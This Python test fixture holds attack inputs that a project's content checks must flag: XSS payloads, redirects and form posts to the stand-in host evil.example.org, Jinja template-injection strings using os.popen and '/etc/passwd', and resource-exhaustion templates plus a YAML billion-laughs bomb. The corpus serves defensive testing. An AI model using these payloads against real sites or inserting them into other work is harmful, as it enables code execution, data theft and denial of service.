"""The attacks a stranger's pull request could carry, as a corpus the tests run through.

XSS payloads are the classic ones (OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS
cheat sheet) and the ones tried on this project; each is written as a contributor would write it
into a guide, with the check family that must name it. SSTI payloads are the usual Jinja escapes.
Resource payloads are templates that would stall a check or eat the machine's memory.
"""

# (what a contributor writes in a guide's body, the check that must flag it)
GUIDE_XSS = [
    ("<script>alert(1)</script>", "html.element"),
    ('<img src="x" onerror="alert(2)">', "html.attribute"),
    ('<iframe src="javascript:alert(3)"></iframe>', "html.element"),
    ('<svg onload="alert(4)"><circle r="1"></circle></svg>', "html.element"),
    ('<base href="https://evil.example.org/">', "html.element"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example.org/">', "html.element"),
    ('<form action="https://evil.example.org/"><input name="pin"><button>Send</button></form>', "html.element"),
    ('A paragraph with an attribute list.\n{: onclick="alert(5)" }', "html.attribute"),
    ('## A heading {: onclick="alert(6)" }', "html.attribute"),
    ('[A link](https://example.org/){: onclick="alert(7)" }', "html.attribute"),
    ('<div markdown="1" onclick="alert(8)">Hello</div>', "html.attribute"),
    ("[Click here](javascript:alert(9))", "html.link"),
    ('<a href="jav&#x09;ascript:alert(10)">Tab in the scheme</a>', "html.link"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">Data address</a>', "html.link"),
    ('<object data="javascript:alert(12)"></object>', "html.element"),
    ('<embed src="javascript:alert(13)">', "html.element"),
    ('<details open ontoggle="alert(14)"><summary>More</summary>Text</details>', "html.attribute"),
    ('<p style="background:url(javascript:alert(15))">Styled</p>', "html.attribute"),
    ('<a href="https://example.org/" id="__config">Theme name</a>', "html.attribute"),
    ("![A pixel](https://tracker.example.org/pixel.png)", "html.link"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>", "html.element"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(17)>"></noscript>', "html.element"),
    ('## Contents label {: data-toc-label="<img src=x onerror=alert(18)>" }', "html.attribute"),
    ('<img src="x.png" srcset="javascript:alert(19)">', "html.attribute"),
    ('<link rel="stylesheet" href="https://evil.example.org/x.css">', "html.element"),
    ('<style>@import "https://evil.example.org/x.css";</style>', "html.element"),
    ("<a href=\"&#106;avascript:alert(20)\">Entity</a>", "html.link"),
    ('<a href="file:///etc/passwd">A file</a>', "html.link"),
    ("[Reference link][evil]\n\n[evil]: javascript:alert(21)", "html.link"),
    ('<img src="//evil.example.org/x.png">', "html.link"),
    ('<video src="x.mp4" onplay="alert(22)"></video>', "html.element"),
    ('<a href="https://example.org/" target="_blank" rel="opener">New window</a>', "html.attribute"),
    # mkdocs-material shows a title as a tooltip by putting its text into the page as HTML.
    ('*[WOOT]: &lt;meta http-equiv="refresh" content="0;url=https://evil.example.org/abbr"&gt;\n\nThe WOOT word.',
     "html.attribute"),
    ('<div title="&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=https://evil.example.org/div&quot;&gt;" '
     'markdown="1">\n\nA whole part of the page in a titled box.\n\n</div>', "html.attribute"),
    ("Ask the <abbr title=\"<style>body{background:red}</style><a href='https://evil.example.org/a'>CLICK</a>\">PTA"
     "</abbr> for help.", "html.attribute"),
    # The theme writes a heading's id into its menus without escaping it (href="#...").
    ("## Where to find it {: id='x\" style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\"' }",
     "html.attribute"),
    ("## A place {: id='x\"><meta http-equiv=refresh content=0;url=https://evil.example.org/toc-id>' }",
     "html.attribute"),
    # mkdocs-material loads Mermaid from a CDN for anything of class "mermaid".
    ('<pre class="mermaid"><code>graph TD; A-->B</code></pre>', "html.attribute"),
]

# Headings a reader sees as text, which the theme's menus show too: when an entry is shortened with
# "…", the theme's script puts its whole text into a tooltip as HTML. The check has nothing to say.
GUIDE_SHOWN_AS_TEXT = [
    '## The homework page `<meta http-equiv="refresh" content="0;url=https://evil.example.org/toc">`',
    "## Ages &lt;5 and &gt;11, and <code>&lt;meta http-equiv=refresh content=0;url=https://evil.example.org/c&gt;</code>",
]

# A data value that writes its own abbreviation line: the meaning becomes a tooltip's HTML.
DATA_TOOLTIP = 'Red jumper.\n*[jumper]: <meta http-equiv="refresh" content="0;url=https://evil.example.org/data">'

# Templates that trip over Python itself: a plain message each, never a traceback.
GUIDE_BROKEN = [
    '{{ "{1}".format(1) }}',
    '{{ "{0[5]}".format("ab") }}',
    "{{ (1, 2) | date }}",
    '{{ "ab" | truncate(-5) }}',
    '{{ "%c" % 99999999 }}',
]

# Data values that PyYAML reads for minutes (1:2:3... is an old YAML way to write a number), or that
# Python refuses to read as a number at all (4,300 digits), with the key each goes under.
LONG_NUMBERS = [("pupils", ":".join(["59"] * 600_000)), ("pupils", "9" * 5000), ("value", "0x" + "f" * 5000)]

# Text that Python's HTML reader takes hours over (quadratic in the number of unclosed tags), and a
# line of ever longer backtick runs.
TANGLED_HTML = "<a " * 40000
BACKTICK_RUNS = "".join("`" * i + "a" for i in range(1, 400))
# A line that Python-Markdown takes minutes over, for every site (it looks for the end of each '[').
OPEN_BRACKETS = "[" * 30000
# Headings on every line: Python-Markdown takes half a minute over 20,000.
HEADINGS = "# A heading\n" * 20000

# Values a stranger could put in data files: each must be shown as text, never run.
DATA_XSS = '<img src=x onerror=alert("data")>"><script>alert(23)</script>'
ATTRIBUTE_XSS = '" onmouseover="alert(24)" x="'

# Template injection: each must be refused with a finding, never reach Python.
GUIDE_SSTI = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ config.items() }}",
    "{{ request.application.__globals__ }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ authority.__class__.__init__.__globals__ }}",
    "{{ range.__globals__ }}",
    "{{ school.name.__class__.__mro__ }}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    # HTML that the check would not see in the guide's text: placeholders' values are always text.
    '{{ "\\x3cmeta http-equiv=refresh content=0;url=https://evil.example.org/safe\\x3e" | safe }}',
    '{% filter safe %}{{ "\\x3cb\\x3e" }}{% endfilter %}',
    '{% autoescape false %}{{ "\\x3cmeta http-equiv=refresh\\x3e" }}{% endautoescape %}',
]

# Templates that would run for ever or take the machine's memory: a template.too-big each.
GUIDE_RESOURCES = [
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ 'x' * 10**10 }}",
    "{{ '%*d' | format(10**9, 1) }}",
    "{{ '{:>999999999}'.format(1) }}",
    "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(1) }}",
    "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "{{ 'x'.center(10**9) }}",
    "{% set a = 'x' * 999999 %}{% set b = a ~ a ~ a ~ a %}{% set c = b ~ b ~ b ~ b %}{% set d = c ~ c ~ c ~ c %}{{ d ~ d ~ d }}",
    "{{ 'x' | indent(10**9) }}",
    "{{ 2 ** 99999999 }}",
    "{{ 10 | round(-100000000) }}",  # 10 ** 100000000 in one step of Python's that no timer stops
    "{{ locale ~ locale }}" * 2000,  # compiling that many placeholders takes seconds and gigabytes
    "{{ " * 40000,  # never closed: finding the tags must not take minutes
]

# A YAML file that expands to billions of values (2 KB on disk).
BILLION_LAUGHS = "\n".join(
    ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
) + "\n"
